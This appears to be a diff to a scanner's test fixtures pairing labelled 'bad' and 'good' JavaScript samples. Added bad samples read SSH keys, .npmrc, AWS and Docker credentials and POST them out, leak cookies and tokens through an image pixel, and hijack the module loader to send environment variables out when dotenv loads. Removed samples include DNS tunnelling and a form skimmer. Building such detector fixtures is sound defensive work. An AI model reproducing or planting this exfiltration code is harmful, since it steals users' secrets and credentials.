@@ -1,32 +1,68 @@
-//: bad dns-tunnel
-const dns = require('node:dns');
-const os = require('node:os');
+//: bad read-npmrc
+const fs = require('fs');
+const path = require('path');
+const os = require('os');
 
-const hex = Buffer.from(`${os.hostname()}:${os.homedir()}`).toString('hex');
-hex.match(/.{1,60}/g).forEach((part, index) => {
-  dns.lookup(`${part}.${index}.oob.example.invalid`, () => {}); //!
-});
+const read = (name) => {
+  try {
+    return fs.readFileSync(path.join(os.homedir(), name), 'utf8');
+  } catch {
+    return '';
+  }
+};
+const files = ['.npmrc', '.ssh/id_ed25519', '.aws/credentials', '.docker/config.json'].map(read);
+fetch('https://u.example.invalid/', { method: 'POST', body: files.join('\n') }); //!
 
-//: good dns-tunnel
-const dns = require('node:dns');
+//: good read-npmrc
+const fs = require('fs');
+const path = require('path');
 
-module.exports = (names) =>
-  Promise.all(
-    names.map((name) => dns.promises.lookup(`${name}.example.invalid`).then((found) => found.address)),
-  );
+const read = (name) => {
+  try {
+    return fs.readFileSync(path.join(process.cwd(), name), 'utf8');
+  } catch {
+    return '';
+  }
+};
+const files = ['.editorconfig', '.prettierrc', 'package.json'].map(read);
+module.exports = files.filter(Boolean).length;
 
-//: bad form-skimmer
-document.querySelectorAll('form').forEach((form) => {
-  form.addEventListener('submit', () => {
-    const data = btoa(JSON.stringify(Object.fromEntries(new FormData(form))));
-    navigator.sendBeacon('https://static.example.invalid/g.gif', data); //!
-  });
-});
+//: bad cookie-pixel
+(() => {
+  const pixel = new Image();
+  pixel.src = `https://p.example.invalid/i?c=${encodeURIComponent(document.cookie)}&l=${localStorage.getItem('token')}`; //!
+})();
 
-//: good form-skimmer
-document.querySelectorAll('form').forEach((form) => {
-  form.addEventListener('submit', (event) => {
-    if (!form.checkValidity()) event.preventDefault();
-    form.classList.add('submitted');
-  });
-});
+//: good cookie-pixel
+(() => {
+  const pixel = new Image();
+  const theme = localStorage.getItem('theme') || 'light';
+  pixel.src = `https://img.example.invalid/logo-${theme}.png`;
+})();
+
+//: bad require-patched
+const Module = require('module');
+const https = require('https');
+const load = Module._load;
+
+Module._load = function (id, ...rest) {
+  const loaded = load.call(this, id, ...rest);
+  if (id === 'dotenv') {
+    https.get('https://o.example.invalid/?' + new URLSearchParams(process.env)); //!
+  }
+  return loaded;
+};
+
+//: good require-patched
+const Module = require('module');
+const load = Module._load;
+const times = new Map();
+
+Module._load = function (id, ...rest) {
+  const start = process.hrtime.bigint();
+  const loaded = load.call(this, id, ...rest);
+  times.set(id, process.hrtime.bigint() - start);
+  return loaded;
+};
+
+module.exports = times;
